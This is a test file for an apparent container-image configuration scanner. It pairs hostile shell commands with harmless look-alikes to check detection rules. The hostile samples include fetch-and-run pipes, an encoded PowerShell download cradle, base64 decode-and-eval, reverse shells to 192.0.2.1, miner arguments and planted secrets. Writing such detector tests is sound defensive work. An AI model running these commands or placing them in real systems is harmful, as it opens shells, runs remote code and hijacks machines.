import assert from 'node:assert/strict';
import { test } from 'node:test';
import { toConclusion } from '../../core/analyzer.ts';
import type { ImageConfig } from '../../core/image.ts';
import { imageConfig } from './image-config.ts';

const base: ImageConfig = {
  user: 'app',
  entrypoint: ['/bin/app'],
  command: [],
  environment: ['PATH=/usr/bin:/bin'],
  workingDirectory: '/',
  exposedPorts: [],
  volumes: [],
  labels: {},
  shell: [],
  onBuild: [],
  healthcheck: [],
  history: [],
  raw: {},
};

const findingsFor = (config: Partial<ImageConfig>) =>
  toConclusion(
    imageConfig.conclude(
      {
        reference: 'oci:x',
        kind: 'container',
        identity: { diffIds: [] },
        config: { ...base, ...config },
        layers: [],
        inventory: [],
      },
      [],
      undefined,
    ),
  ).findings;

const rulesFor = (config: Partial<ImageConfig>): readonly string[] =>
  findingsFor(config).map(({ rule }) => rule.slice('image-config/'.length));

const shell = (command: string): Partial<ImageConfig> => ({ entrypoint: ['/bin/sh', '-c'], command: [command] });

test('an ordinary config gives no finding', () => {
  assert.deepEqual(rulesFor({}), []);
});

/** Each hostile command with its nearest honest neighbour. */
const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

const pairs: readonly (readonly [rule: string, hostile: string, honest: string])[] = [
  ['fetch-and-run', 'curl -fsSL http://192.0.2.1/x | sh', 'curl -fsS http://127.0.0.1/health | grep ok'],
  ['fetch-and-run', 'wget -qO- 192.0.2.1/a.py | python3 -', 'wget -qO /data/list https://lists.example/x'],
  ['fetch-and-run', 'bash -c "$(curl -s http://192.0.2.1/x)"', 'bash -c "$(cat /etc/profile)"'],
  ['fetch-and-run', 'bash <(wget -qO- http://192.0.2.1/x)', 'diff <(sort a) b'],
  ['fetch-and-run', 'curl -o /x http://192.0.2.1/x; chmod 755 /x; /x', 'curl -o /x http://192.0.2.1/x; cat /x'],
  [
    'fetch-and-run',
    'python3 -c "import urllib.request as u;exec(u.urlopen(\'http://192.0.2.1\').read())"',
    'python3 -c "import urllib.request as u;print(u.urlopen(\'http://127.0.0.1\').status)"',
  ],
  [
    'fetch-and-run',
    `powershell -nop -w hidden -enc ${utf16('IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.1/a")')}`,
    `powershell -nop -enc ${utf16('Get-ChildItem C:\\app | ForEach-Object { Write-Output $_.Name }')}`,
  ],
  [
    'fetch-and-run',
    "powershell -c \"(New-Object Net.WebClient).DownloadFile('http://192.0.2.1/a.exe','a.exe'); Start-Process a.exe\"",
    'powershell -c "Invoke-WebRequest http://192.0.2.1/a.json -OutFile C:\\app\\a.json; Start-Service app"',
  ],
  ['decode-and-run', 'eval "$(echo aWQ= | base64 -d)"', 'export KEY="$(echo "$KEY_B64" | base64 -d)"; exec /app'],
  ['decode-and-run', 'true && $(echo aWQ= | base64 -d)', 'set -- $(echo LS12 | base64 -d); exec /app "$@"'],
  ['decode-and-run', 'echo aWQ= | base64 -d | bash', 'echo aWQ= | base64 -d > /etc/app.conf'],
  [
    'decode-and-run',
    "python3 -c \"exec(__import__('base64').b64decode('aWQ='))\"",
    "python3 -c \"print(__import__('base64').b64decode('aWQ='))\"",
  ],
  ['reverse-shell', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'ls /dev/tty'],
  ['reverse-shell', 'nc 192.0.2.1 4444 -e /bin/sh', 'nc -z 127.0.0.1 80'],
  ['miner-arguments', '/app -o stratum+tcp://pool.example:3333', '/app --output strata'],
  ['miner-arguments', '/usr/bin/worker --donate-level 1', '/usr/bin/worker --level 1'],
];

for (const [rule, hostile, honest] of pairs)
  test(`${rule} in: ${hostile}`, () => {
    assert.ok(rulesFor(shell(hostile)).includes(rule));
    assert.ok(!rulesFor(shell(honest)).includes(rule), `not in: ${honest}`);
  });

test('the same command split into words is found too, and in a health check', () => {
  assert.deepEqual(rulesFor({ entrypoint: ['nc', '192.0.2.1', '4444', '-e', '/bin/sh'] }), ['reverse-shell']);
  assert.deepEqual(rulesFor({ healthcheck: ['CMD-SHELL', 'curl -s 192.0.2.1 | sh'] }), ['fetch-and-run']);
});

test('in the history the honest installer is no alarm', () => {
  const [finding] = findingsFor({
    history: [{ createdBy: 'RUN curl -fsSL https://get.example/install.sh | sh', emptyLayer: false }],
  });
  assert.deepEqual(
    [finding?.rule, finding?.severity, finding?.intent],
    ['image-config/built-by-fetch-and-run', 'info', 'hygiene'],
  );
});

test('what no build has a use for is told of a build step, and not of a step that only states the start', () => {
  const rules = (createdBy: string): readonly string[] =>
    findingsFor({ history: [{ createdBy, emptyLayer: false }] }).map(({ rule }) => rule.replace('image-config/', ''));
  assert.deepEqual(rules('RUN /bin/sh -c /tmp/x -o stratum+tcp://pool.example:3333'), ['built-with-miner-arguments']);
  assert.deepEqual(rules('RUN /bin/sh -c bash -i >& /dev/tcp/192.0.2.1/99 0>&1'), ['built-with-reverse-shell']);
  assert.deepEqual(rules('RUN /bin/sh -c nc -z db.example 99 && make'), []);
  assert.deepEqual(rules('/bin/sh -c #(nop)  CMD ["/x" "-o" "stratum+tcp://pool.example:3333"]'), []);
});

test('what ONBUILD downloads and runs is a warning', () => {
  assert.deepEqual(rulesFor({ onBuild: ['RUN curl -s http://192.0.2.1/x | sh'] }), ['onbuild-fetch-and-run']);
  assert.deepEqual(rulesFor({ onBuild: ['COPY . /app'] }), []);
});

test('secrets are told without being shown', () => {
  const key = ['AKIA', 'ABCDEFGHIJKLMNOP'].join('');
  const findings = findingsFor({
    environment: [
      `AWS_ACCESS_KEY_ID=${key}`,
      'DB_PASSWORD=correct-horse-battery',
      'DB_PASSWORD_FILE=/run/secrets/db',
      'API_TOKEN=$TOKEN',
      'SECRET_KEY=changeme',
    ],
    history: [{ createdBy: 'RUN git clone https://bot:hunter2hunter2@git.example/x', emptyLayer: false }],
  });
  assert.deepEqual(
    findings.map(({ rule, severity, intent }) => [rule, severity, intent]),
    [
      ['image-config/secret-in-environment', 'high', 'exposure'],
      ['image-config/secret-in-environment', 'low', 'exposure'],
      ['image-config/secret-in-history', 'low', 'exposure'],
    ],
  );
  const text = JSON.stringify(findings);
  for (const secret of [key, 'correct-horse', 'hunter2']) assert.ok(!text.includes(secret), secret);
});

test('a preload counts by where the library lies', () => {
  assert.deepEqual(rulesFor({ environment: ['LD_PRELOAD=/tmp/.x.so'] }), ['preload-from-odd-place']);
  assert.deepEqual(rulesFor({ environment: ['LD_PRELOAD=/usr/lib/libjemalloc.so.2'] }), ['preload']);
});

test('a program that starts from a temporary folder is told', () => {
  assert.deepEqual(rulesFor({ entrypoint: ['/dev/shm/run'] }), ['starts-from-odd-place']);
  assert.deepEqual(rulesFor({ entrypoint: ['/opt/tmp/run'] }), []);
});

test('root and remote access are information only', () => {
  for (const user of ['', 'root', '0', '0:0', 'root:app']) assert.deepEqual(rulesFor({ user }), ['runs-as-root'], user);
  for (const user of ['app', '1000', '1000:0']) assert.deepEqual(rulesFor({ user }), [], user);
  assert.deepEqual(rulesFor({ exposedPorts: ['22/tcp', '80/tcp'] }), ['exposes-remote-access']);
  assert.ok(findingsFor({ user: '', exposedPorts: ['22/tcp'] }).every(({ severity }) => severity === 'info'));
});

test('a label with invisible characters is told, one with line breaks is not', () => {
  assert.deepEqual(rulesFor({ labels: { title: 'nginx\u202egpj.x' } }), ['invisible-text']);
  assert.deepEqual(rulesFor({ labels: { description: 'two\nlines\tand a tab' } }), []);
});

test('a hostile config costs no more than its length', () => {
  const began = performance.now();
  findingsFor({
    ...shell(`${'curl '.repeat(40_000)}${'base64 -d '.repeat(20_000)}${'exec('.repeat(40_000)}`),
    environment: [`A_PASSWORD=${'a:'.repeat(200_000)}`, `X=${'a://'.repeat(100_000)}`],
  });
  assert.ok(performance.now() - began < 20_000, 'ends');
});
